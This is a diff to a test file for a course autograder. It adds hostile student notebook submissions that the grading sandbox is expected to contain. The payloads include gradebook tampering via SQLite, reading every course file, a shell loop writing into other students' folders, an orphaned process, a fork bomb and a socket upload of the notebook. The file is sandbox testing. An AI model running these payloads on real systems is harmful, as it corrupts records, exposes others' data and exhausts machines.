@@ -1,4 +1,4 @@
-"""Submissions of lesson 01 that a class could really hand in, good and bad.
+"""Submissions of lesson 01 that a class could really hand in, good, bad and hostile.
 
 Each is made from the released notebook, as a student would edit it. Lesson 01's graded
 exercises and their points come from exercises/01_replay_buffers.toml (ex-shapes is worth
@@ -71,9 +71,82 @@ def _tamper_metadata(notebook, solutions):
     cell(notebook, "ex-shapes-check").metadata["nbgrader"]["grade_id"] = "free-points"
 
 
+# What hostile submissions look for. None of it may reach another student's graded
+# notebook or feedback page. Ana's notebook carries a phrase no one else wrote.
+ANA_WORDS = "ana's own words: the buffer is a ring"
+SECRETS = (ANA_WORDS, "BEGIN SOLUTION", "settings.apply(", "CREATE TABLE assignment")
+#: Where the class's network thief connects; the workflow test listens there.
+NETWORK = {"port": 0}
+#: The command line of the child a submission leaves behind; grading must end it.
+ORPHAN = "course-grading-orphan-of-pia"
+
+
+def _ana(notebook, solutions):
+    solve(notebook, solutions)
+    cell(notebook, "ex-time-answer").source += f"\n# {ANA_WORDS}"
+
+
+def _hostile(code: str) -> Edit:
+    """A fully solved notebook whose last answer also runs ``code`` (which never raises)."""
+    def edit(notebook, solutions):
+        solve(notebook, solutions)
+        cell(notebook, "ex-time-answer").source = (
+            solutions["ex-time-answer"] + "\n" + code.replace("{port}", str(NETWORK["port"])))
+    return edit
+
+
+# Reads, then writes, the gradebook with SQLite (three folders up from the graded copy).
+_GRADEBOOK = """import sqlite3
+try:
+    gradebook = sqlite3.connect("file:../../../gradebook.db?mode=ro", uri=True)
+    print(gradebook.execute("SELECT sql FROM sqlite_master").fetchall())
+except sqlite3.Error as error:
+    print("read:", error)
+try:
+    gradebook = sqlite3.connect("../../../gradebook.db")
+    gradebook.execute("CREATE TABLE pwned (grade)")
+    gradebook.execute("UPDATE grade SET manual_score = 100")
+    gradebook.commit()
+except sqlite3.Error as error:
+    print("write:", error)
+"""
+# Prints every file of the course it can find: source/, release/, the configuration,
+# the other students' submissions and graded copies.
+_READER = """from pathlib import Path
+for path in sorted(Path.cwd().parents[2].rglob("*")):
+    try:
+        print(path, path.read_text(errors="replace")[:20000])
+    except OSError as error:
+        print(path, error)
+"""
+# A shell child writes into every student's folders, submitted and graded.
+_SHELL = """import subprocess
+subprocess.run("for d in ../../*/ ../../../submitted/*/*/ ../../../autograded/*/*/; "
+               "do echo olga > $d/olga-was-here.txt; done", shell=True)
+"""
+# A child in a new session, which would outlive its kernel by ten minutes.
+_ORPHAN = f"""import subprocess, sys
+subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", "{ORPHAN}"],
+                 start_new_session=True)
+"""
+# A shell fork bomb, left running in the background for the rest of the notebook.
+_BOMB = """import subprocess, time
+subprocess.Popen(["/bin/sh", "-c", "bomb() { bomb | bomb & }; bomb"],
+                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+time.sleep(5)
+"""
+# Sends its notebook to a port on the grader's machine.
+_NETWORK = """import socket
+try:
+    with socket.create_connection(("127.0.0.1", {port}), timeout=5) as connection:
+        connection.sendall(open("01_replay_buffers.ipynb", "rb").read())
+except OSError as error:
+    print("network:", error)
+"""
+
 # The notes are what `course grade` reports under each student, in this order or another.
 CASES = [
-    Case("ana", "en", lambda nb, s: solve(nb, s), MAX_SCORE),
+    Case("ana", "en", _ana, MAX_SCORE),
     Case("ben", "en", lambda nb, s: None, 0, notes=tuple(
         f"{name}{exercises.CHECK}: AssertionError" for name in POINTS)),
     Case("chen", "en", _prefix("ex-buffer-answer", "import os\nos._exit(1)  # the kernel dies"), 0,
@@ -104,4 +177,11 @@ CASES = [
          MAX_SCORE - POINTS["ex-time"],
          notes=("ex-time-answer: PermissionError",
                 "ex-time-check: NameError: name 'next_lidar' is not defined")),
+    # Hostile code that the sandbox contains: each is graded in full, and harms no one.
+    Case("mara", "en", _hostile(_GRADEBOOK), MAX_SCORE),
+    Case("noah", "en", _hostile(_READER), MAX_SCORE),
+    Case("olga", "en", _hostile(_SHELL), MAX_SCORE),
+    Case("pia", "en", _hostile(_ORPHAN), MAX_SCORE),
+    Case("ravi", "en", _hostile(_BOMB), MAX_SCORE),
+    Case("sami", "en", _hostile(_NETWORK), MAX_SCORE),
 ]
